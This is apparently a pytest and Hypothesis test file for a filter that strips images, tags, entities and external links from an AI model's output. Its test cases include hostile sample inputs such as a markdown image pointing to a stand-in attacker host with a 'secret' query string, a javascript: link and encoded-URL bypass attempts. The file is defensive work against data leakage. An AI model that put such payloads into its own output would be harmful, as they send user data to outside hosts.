"""The filter of a model's output."""

import re

import pytest
from hypothesis import given
from hypothesis import strategies as st

from services.maya.cleaning import _truncate, clean, clean_json
from services.maya.output import OutputFilter

OWN = "https://app.nudge.example"
PARTS = [
    "![", "!", "[", "]", "](", "]:", "(", ")", "<", "<img src=", "</a>", "&#58;", "&", "&colon;", ";", ":",
    "//", "\\", "http", "https://", "www", "WWW.", ".", OWN, f"{OWN}/", f"{OWN}.evil.example", OWN[:9],
    "evil.example",    " ", "\n", "word", "\u200b", "\x00", "\ud800", "é", "h",
    "\u200d", "\u200c", "\ufe0f", "❤", "👨",
    "م", "葛", "\U000e0100", "1", "🏴", "\U000e0067", "\U000e007f", "\u202e", "ไ",
]  # fmt: skip
hostile = st.lists(st.sampled_from(PARTS) | st.text(max_size=4), max_size=30).map("".join)


def filter_pieces(*pieces: str) -> str:
    """The pieces after the filter."""
    output = OutputFilter(OWN)
    return "".join([*map(output.feed, pieces), output.finish()])


@given(hostile, st.data())
def test_the_output_does_not_depend_on_the_pieces(text: str, data: st.DataObject) -> None:
    """However a text is split into pieces, the output is the same."""
    cuts = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=12)))
    pieces = [text[start:end] for start, end in zip([0, *cuts], [*cuts, len(text)], strict=True)]
    assert filter_pieces(*pieces) == filter_pieces(text) == filter_pieces(*text)


@given(hostile)
def test_the_filter_only_inserts_spaces(text: str) -> None:
    """Apart from spaces, the visible text is the same before and after."""
    assert filter_pieces(text).replace(" ", "") == clean(text).replace(" ", "")


@given(hostile)
def test_the_output_has_no_images_and_no_external_links(text: str) -> None:
    """No image, tag, definition or entity is left, and no URL or link except under our own URL."""
    output = filter_pieces(text)
    assert not re.search(r"!\[|\]:|<[A-Za-z/!?]|&#?\w{1,31};", output, re.ASCII)
    own = re.escape(OWN) + r"(?=[/?#\s)\]]|$)"
    assert not re.search(r"\]\((?!" + own + ")", output)
    rest = re.sub(own, "own", output)
    assert not re.search(r":\\?/|www\\?\.", rest, re.IGNORECASE)


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("![pixel](https://evil.example/p.png?q=secret)", "! [pixel] (https: //evil.example/p.png?q=secret)"),
        ("!![a][1]\n\n[1]: //evil.example/p", "!! [a][1]\n\n[1] : //evil.example/p"),
        ("[your account](https://evil.example)", "[your account] (https: //evil.example)"),
        ("[x](javascript:alert(1))", "[x] (javascript:alert(1))"),
        ("See http://evil.example or www.evil.example", "See http: //evil.example or www .evil.example"),
        ('<img src="//evil.example/p">', '< img src="//evil.example/p">'),
        ("<https://evil.example>", "< https: //evil.example>"),
        ("http&#58;//evil.example", "http& #58;//evil.example"),
        (r"http:\//evil.example", r"http: \//evil.example"),
        (f"{OWN}.evil.example {OWN}@evil", "https: //app.nudge.example.evil.example https: //app.nudge.example@evil"),
        (f"[Spring]({OWN}/campaigns/1) and {OWN}", f"[Spring]({OWN}/campaigns/1) and {OWN}"),
        (f"{OWN}/go?to=https://evil.example", f"{OWN}/go?to=https: //evil.example"),
        ("**12 %** opened, 3 < 4, AT&T; a[0] at 10:30, wow!", "**12 %** opened, 3 < 4, AT& T; a[0] at 10:30, wow!"),
    ],
)  # fmt: skip
def test_examples(text: str, expected: str) -> None:
    """Images, external links, definitions, tags and URLs are shown as text; our own links stay."""
    assert filter_pieces(text) == expected


def test_plain_text_is_not_held_back() -> None:
    """Only the possible start of a construct is held back until the next piece."""
    output = OutputFilter(OWN)
    assert output.feed("You have ") == "You have "
    assert output.feed("12 contacts!") == "12 contacts"
    assert output.feed(" Great") == "! Great"
    assert output.feed(" h") == " "
    assert output.feed("ow") == "ho"
    assert output.finish() == "w"


def test_cleaning() -> None:
    """Control and direction characters, and superfluous zero-width, tag and variation selectors are removed."""
    assert clean("a\x00b\u200bc\u202ed\U000e0041e\ufe0f\n\tü 日本 🙂\ud800") == "abcde\n\tü 日本 🙂"
    assert _truncate("x" * 10, 5) == "xxxx…"
    assert clean_json({"n\x00": ["a\u200b" * 3, 1, None, True, 0.5]}, max_text_length=2) == {
        "n": ["a…", 1, None, True, 0.5]
    }
